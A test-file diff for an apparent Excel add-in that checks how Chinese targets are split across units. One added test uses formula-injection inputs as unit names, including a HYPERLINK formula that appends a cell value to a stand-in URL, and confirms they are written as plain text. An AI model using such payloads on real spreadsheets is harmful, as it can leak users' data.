@@ -7,6 +7,7 @@ import "@testing-library/jest-dom";
 import { act, render, screen, waitFor, within } from "@testing-library/react";
 import userEvent from "@testing-library/user-event";
 import { runSelection } from "../../src/core/select";
+import { a1 } from "../../src/excel/address";
 import { MemoryWorkbook } from "../../src/excel/memory";
 import { zgFunctions } from "../../src/excel/zgFunctions";
 import { sampleWorkbook } from "../../src/preview/samples";
@@ -66,7 +67,7 @@ describe("分解校核 / check", () => {
     expect(screen.getByText(/浙转升办〔2020〕9号/)).toBeTruthy();
     await user.keyboard("{Escape}");
     // Marks: the robots label (the sum falls short) and 乙县's research rate.
-    const marks = book.sheet("分解")!.marks;
+    const marks = book.marksOf("分解");
     expect([...marks.entries()].sort()).toEqual([
       ["2,0", "short"],
       ["3,3", "short"],
@@ -74,7 +75,7 @@ describe("分解校核 / check", () => {
     expect(screen.getByText(/已在表中标记 2 个单元格/)).toBeTruthy();
     await user.click(screen.getByRole("button", { name: "清除标记" }));
     await screen.findByText(/已清除 1 组标记/);
-    expect(book.sheet("分解")!.marks.size).toBe(0);
+    expect(book.marksOf("分解").size).toBe(0);
     expect(book.sheet("分解")!.fills.get("2,2")).toBe("#FFFF00");
     expect(JSON.stringify(book.sheet("分解")!.cells)).toBe(before);
   });
@@ -99,6 +100,81 @@ describe("分解校核 / check", () => {
     await user.click(screen.getByRole("button", { name: "写入校核报告表" }));
     await user.click(await screen.findByRole("button", { name: "替换" }));
     await waitFor(() => expect(book.sheets.filter((s) => s.name.startsWith("ZG校核报告"))).toHaveLength(2));
+  });
+
+  // Excel API reference, Range.values: "If the returned value starts with a plus ("+"), minus ("-"), or equal
+  // sign ("="), Excel interprets this value as a formula." Names copied from the user's table are text.
+  test("unit names that look like formulas land in the report as the same text", async () => {
+    const book = new MemoryWorkbook();
+    const names = ["-临平区", '=HYPERLINK("http://x"&B5)', "@x"];
+    book.addSheet({
+      name: "分解",
+      cells: [
+        ["指标", "全市目标", ...names],
+        ["新增工业机器人", "300台", 100, 120, 70],
+        ["研发费用支出增长", "10%以上", "8%", "12%", "9%"],
+      ],
+    });
+    book.select("分解", "B2");
+    const user = renderApp(book);
+    await user.click(screen.getByRole("button", { name: "校核" }));
+    await screen.findByTestId("check-summary");
+    await user.click(screen.getByRole("button", { name: "写入校核报告表" }));
+    await screen.findByText("校核报告已写入工作表“ZG校核报告”。");
+    const report = book.sheet("ZG校核报告")!;
+    const research = report.cells.findIndex((r) => r[1] === "研发费用支出增长");
+    expect(book.value("ZG校核报告", research, 8)).toBe("-临平区、@x");
+    expect(book.isFormula("ZG校核报告", `I${research + 1}`)).toBe(false);
+    expect(book.value("ZG校核报告", research, 9)).toBe("分解!A3");
+    report.cells.forEach((row, r) => row?.forEach((_, c) => expect([r, c, book.isFormula("ZG校核报告", a1(r, c))]).toEqual([r, c, false])));
+  });
+
+  test("the replace dialog says, in Chinese and English, that replacing clears Excel's undo history", async () => {
+    const book = new MemoryWorkbook();
+    smallTable(book);
+    const user = renderApp(book);
+    await user.click(screen.getByRole("button", { name: "校核" }));
+    await screen.findByTestId("check-summary");
+    await user.click(screen.getByRole("button", { name: "写入校核报告表" }));
+    await screen.findByText("校核报告已写入工作表“ZG校核报告”。");
+    await user.click(screen.getByRole("button", { name: "写入校核报告表" }));
+    const warning = await screen.findByTestId("undo-warning");
+    expect(warning).toHaveTextContent("Excel 不能撤销删除工作表");
+    expect(warning).toHaveTextContent("Excel cannot undo deleting a sheet");
+    await user.click(screen.getByRole("button", { name: "另建新表" }));
+    await screen.findByText("校核报告已写入工作表“ZG校核报告 (2)”。");
+  });
+
+  test("a write that fails part-way says so, names the sheet, and keeps the old one", async () => {
+    const book = new MemoryWorkbook();
+    smallTable(book);
+    const user = renderApp(book);
+    await user.click(screen.getByRole("button", { name: "校核" }));
+    await screen.findByTestId("check-summary");
+    await user.click(screen.getByRole("button", { name: "写入校核报告表" }));
+    await screen.findByText("校核报告已写入工作表“ZG校核报告”。");
+    const before = JSON.stringify(book.sheet("ZG校核报告")!.cells);
+    book.injectWriteFailure(2);
+    await user.click(screen.getByRole("button", { name: "写入校核报告表" }));
+    await user.click(await screen.findByRole("button", { name: "替换" }));
+    const alert = await screen.findByRole("alert");
+    expect(alert).toHaveTextContent("写入工作表“ZG校核报告”失败");
+    expect(alert).toHaveTextContent("原来的“ZG校核报告”保持不变");
+    expect(JSON.stringify(book.sheet("ZG校核报告")!.cells)).toBe(before);
+    expect(book.sheets.map((s) => s.name)).toEqual(["分解", "ZG校核报告"]);
+  });
+
+  test("several selected ranges and a far cell: the check reads the table and says what it left out", async () => {
+    const book = new MemoryWorkbook();
+    smallTable(book);
+    book.setCell("分解", "XFD1048576", "备注");
+    book.select("分解", "A1,B3", "B3");
+    const user = renderApp(book);
+    await user.click(screen.getByRole("button", { name: "校核" }));
+    const summary = await screen.findByTestId("check-summary");
+    expect(summary).toHaveTextContent("不足 2");
+    expect(screen.getByText(/选中了 2 个区域/)).toBeTruthy();
+    expect(screen.getByText(/XFD1048576/)).toBeTruthy();
   });
 
   test("a user's sheet named like our report is never touched", async () => {
@@ -258,6 +334,11 @@ describe("模板 / templates, language", () => {
     expect(book.sheet("指标")!.cells).toEqual([["用户自己的指标表"]]);
     const list = book.sheet("完成情况")!.validations.find((v) => v.type === "list" && v.source);
     expect(list && list.type === "list" ? list.source : "").toBe("'指标 (2)'!$B$2:$B$19");
+    // Template text is text: no cell of an inserted template is a formula.
+    for (const name of ["2020分解方案", "完成情况", "县", "指标 (2)", "说明"]) {
+      const sheet = book.sheet(name)!;
+      sheet.cells.forEach((row, r) => row?.forEach((_, c) => expect([name, r, c, book.isFormula(name, a1(r, c))]).toEqual([name, r, c, false])));
+    }
     const counties = book.sheet("县")!.cells.slice(1).map((r) => r[1]);
     expect(new Set(counties)).toEqual(new Set(["衢州市"]));
   });
